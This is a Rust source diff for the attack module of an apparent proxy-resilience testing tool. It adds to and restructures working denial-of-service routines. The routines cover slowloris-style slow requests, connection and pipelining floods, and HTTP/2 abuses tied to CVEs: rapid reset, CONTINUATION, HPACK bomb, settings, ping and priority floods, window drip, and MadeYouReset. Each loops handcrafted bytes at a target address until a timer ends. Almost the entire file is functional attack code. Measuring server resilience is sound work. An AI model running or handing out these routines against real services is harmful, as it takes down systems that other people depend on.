@@ -1,10 +1,13 @@
 //! The attacks, each a loop over bytes until its time is up.
 
-use std::io::{Read as _, Write as _};
-use std::net::{SocketAddr, TcpStream};
+use std::net::SocketAddr;
 use std::time::{Duration, Instant};
 
-use super::connect;
+use anyhow::Result;
+
+use super::client::{LARGE, own_processor_us};
+use super::harm::Sent;
+use super::line::{Line, keep};
 
 /// One way to make a proxy work or hold more than the attacker does.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -34,9 +37,19 @@ pub(super) enum Attack {
     ZeroWindow,
     /// CVE-2019-9518: DATA without data.
     EmptyFrames,
+    /// Large responses that nobody reads.
+    SlowReader,
+    /// Many header blocks that are begun and left (HTTP/2's slow head).
+    SlowHeaders,
+    /// CVE-2019-9511: windows that grow by a byte.
+    WindowDrip,
+    /// CVE-2025-8671: mistakes that make the server reset streams.
+    MadeYouReset,
+    /// CVE-2019-9513: priorities that change for ever.
+    PriorityFlood,
 }
 
-pub(super) const ATTACKS: [Attack; 13] = [
+pub(super) const ATTACKS: [Attack; 18] = [
     Attack::SlowHead,
     Attack::SlowBody,
     Attack::HugeHeads,
@@ -50,9 +63,15 @@ pub(super) const ATTACKS: [Attack; 13] = [
     Attack::SettingsFlood,
     Attack::ZeroWindow,
     Attack::EmptyFrames,
+    Attack::SlowReader,
+    Attack::SlowHeaders,
+    Attack::WindowDrip,
+    Attack::MadeYouReset,
+    Attack::PriorityFlood,
 ];
 
-const SLOW_CONNECTIONS: usize = 500;
+/// The smallest request of HTTP/1.1.
+pub(super) const PIPELINED: &[u8] = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n";
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 /// GET, http, /, authority `x`, from the static table where it has them (RFC 7541 appendix A).
 const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'x'];
@@ -80,59 +99,30 @@ impl Attack {
             Self::SettingsFlood => "settings-flood",
             Self::ZeroWindow => "zero-window",
             Self::EmptyFrames => "empty-frames",
+            Self::SlowReader => "slow-reader",
+            Self::SlowHeaders => "slow-headers",
+            Self::WindowDrip => "window-drip",
+            Self::MadeYouReset => "made-you-reset",
+            Self::PriorityFlood => "priority-flood",
         }
     }
 
     pub(super) const fn is_http2(self) -> bool {
-        matches!(
+        !matches!(
             self,
-            Self::RapidReset
-                | Self::Continuation
-                | Self::HpackBomb
-                | Self::PingFlood
-                | Self::SettingsFlood
-                | Self::ZeroWindow
-                | Self::EmptyFrames
+            Self::SlowHead
+                | Self::SlowBody
+                | Self::HugeHeads
+                | Self::Pipelining
+                | Self::ChunkExtensions
+                | Self::ConnectionFlood
+                | Self::SlowReader
         )
     }
 
-    /// Goes on until the time is up, with a new connection wherever the old one was closed.
-    pub(super) fn send(self, address: SocketAddr, time: Duration) {
-        let end = Instant::now() + time;
-        match self {
-            Self::SlowHead => drip(address, end, b"GET / HTTP/1.1\r\nHost: x\r\n", b"A: b\r\n"),
-            Self::SlowBody => {
-                let head = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n";
-                drip(address, end, head, b"x");
-            }
-            Self::ConnectionFlood => {
-                let mut held = Vec::new();
-                while Instant::now() < end {
-                    held.extend(connect(address).ok());
-                    if held.len() >= 2000 {
-                        held.clear();
-                    }
-                }
-            }
-            _ => self.flood(address, end),
-        }
-    }
-
-    /// One connection after another: what opens it, then the same bytes again and again.
-    fn flood(self, address: SocketAddr, end: Instant) {
-        while Instant::now() < end {
-            let Ok(mut stream) = connect(address) else { continue };
-            let mut next_id = 1;
-            if stream.write_all(&self.opening()).is_err() {
-                continue;
-            }
-            while Instant::now() < end {
-                let bytes = self.wave(&mut next_id);
-                if stream.write_all(&bytes).is_err() || is_closed(&mut stream, self) {
-                    break;
-                }
-            }
-        }
+    /// Where the answers are what floods, they stay unread.
+    const fn reads(self) -> bool {
+        !matches!(self, Self::Pipelining | Self::PingFlood | Self::SettingsFlood)
     }
 
     fn opening(self) -> Vec<u8> {
@@ -149,7 +139,7 @@ impl Attack {
             Self::EmptyFrames => {
                 [PREFACE, &frame(4, 0, 0, &[]), &frame(1, END_HEADERS, 1, POST)].concat()
             }
-            _ => [PREFACE, &frame(4, 0, 0, &[])].concat(),
+            _ => opening(),
         }
     }
 
@@ -164,7 +154,7 @@ impl Attack {
                 let field = format!("X-Long: {}\r\n", "x".repeat(500));
                 format!("GET / HTTP/1.1\r\nHost: x\r\n{}\r\n", field.repeat(90)).into_bytes()
             }
-            Self::Pipelining => b"GET / HTTP/1.1\r\nHost: x\r\n\r\n".repeat(500),
+            Self::Pipelining => PIPELINED.repeat(500),
             Self::ChunkExtensions => {
                 format!("1;{}\r\nx\r\n", "e".repeat(200)).repeat(70).into_bytes()
             }
@@ -190,36 +180,100 @@ impl Attack {
                 (0..100).flat_map(|_| frame(1, END_STREAM | END_HEADERS, id(), GET)).collect()
             }
             Self::EmptyFrames => frame(0, 0, 1, &[]).repeat(1500),
-            Self::SlowHead | Self::SlowBody | Self::ConnectionFlood => Vec::new(),
+            Self::MadeYouReset => (0..300)
+                .flat_map(|_| {
+                    let id = id();
+                    let request = frame(1, END_STREAM | END_HEADERS, id, GET);
+                    // An increment of nothing (RFC 9113 §6.9) costs the stream.
+                    [request, frame(8, 0, id, &[0; 4])].concat()
+                })
+                .collect(),
+            Self::PriorityFlood => frame(2, 0, 1, &[0, 0, 0, 3, 7]).repeat(1000),
+            Self::SlowHead
+            | Self::SlowBody
+            | Self::ConnectionFlood
+            | Self::SlowReader
+            | Self::SlowHeaders
+            | Self::WindowDrip => Vec::new(),
         }
     }
+}
+
+/// Attacks until the time is up, with a new connection wherever the old one was closed.
+pub(super) fn attack(attack: Attack, address: SocketAddr, time: Duration) -> Result<Sent> {
+    let end = Instant::now() + time;
+    let mut sent = Sent::default();
+    let to = (address, end);
+    match attack {
+        Attack::SlowHead => {
+            keep(to, &mut sent, b"GET / HTTP/1.1\r\nHost: x\r\n", |_| b"A: b\r\n".to_vec());
+        }
+        Attack::SlowBody => {
+            let head = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n";
+            keep(to, &mut sent, head, |_| b"x".to_vec());
+        }
+        Attack::SlowReader => {
+            let head = format!("GET {LARGE} HTTP/1.1\r\nHost: x\r\n\r\n");
+            keep(to, &mut sent, head.as_bytes(), |_| Vec::new());
+        }
+        Attack::SlowHeaders => {
+            let begun = [&opening()[..], &frame(1, 0, 1, GET)].concat();
+            keep(to, &mut sent, &begun, |_| frame(9, 0, 1, &[0x00, 1, b'a', 1, b'b']));
+        }
+        Attack::WindowDrip => {
+            let settings = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
+            let requests =
+                (0..100).flat_map(|at| frame(1, END_STREAM | END_HEADERS, 2 * at + 1, GET));
+            let begun = [PREFACE, &settings, &requests.collect::<Vec<_>>()].concat();
+            keep(to, &mut sent, &begun, |turn| frame(8, 0, 2 * (turn % 100) + 1, &[0, 0, 0, 1]));
+        }
+        Attack::ConnectionFlood => {
+            let mut held = Vec::new();
+            while Instant::now() < end {
+                held.extend(Line::open(address, &mut sent));
+                sent.open = sent.open.max(held.len() as u64);
+                if held.len() >= 2000 {
+                    held.clear();
+                }
+            }
+        }
+        _ => flood(attack, to, &mut sent),
+    }
+    sent.processor_us = own_processor_us()?;
+    Ok(sent)
+}
+
+/// One connection after another: what opens it, then the same bytes again and again.
+fn flood(attack: Attack, (address, end): (SocketAddr, Instant), sent: &mut Sent) {
+    sent.open = 1;
+    while Instant::now() < end {
+        let Some(mut line) = Line::open(address, sent) else { continue };
+        let mut next_id = 1;
+        if line.write(&attack.opening(), sent).is_err() {
+            continue;
+        }
+        while Instant::now() < end {
+            let bytes = attack.wave(&mut next_id);
+            if line.write(&bytes, sent).is_err() || attack.reads() && line.is_closed() {
+                break;
+            }
+        }
+    }
+}
+
+/// What HTTP/2 begins with.
+pub(super) fn opening() -> Vec<u8> {
+    [PREFACE, &frame(4, 0, 0, &[])].concat()
+}
+
+/// A request on this stream.
+pub(super) fn request(id: u32) -> Vec<u8> {
+    frame(1, END_STREAM | END_HEADERS, id, GET)
 }
 
 /// What a good client sends.
 pub(super) fn one_request() -> Vec<u8> {
-    [PREFACE, &frame(4, 0, 0, &[]), &frame(1, END_STREAM | END_HEADERS, 1, GET)].concat()
-}
-
-/// Whether the proxy hung up. Where answers are what floods, they stay unread.
-fn is_closed(stream: &mut TcpStream, attack: Attack) -> bool {
-    if matches!(attack, Attack::Pipelining | Attack::PingFlood | Attack::SettingsFlood) {
-        return false;
-    }
-    matches!(stream.read(&mut [0; 65536]), Ok(0))
-}
-
-fn drip(address: SocketAddr, end: Instant, opening: &[u8], drop: &[u8]) {
-    let mut held: Vec<TcpStream> = Vec::new();
-    while Instant::now() < end {
-        held.retain_mut(|stream| stream.write_all(drop).is_ok());
-        while held.len() < SLOW_CONNECTIONS {
-            let Ok(mut stream) = connect(address) else { break };
-            if stream.write_all(opening).is_ok() {
-                held.push(stream);
-            }
-        }
-        std::thread::sleep(Duration::from_millis(200));
-    }
+    [opening(), request(1)].concat()
 }
 
 /// RFC 9113 §4.1.
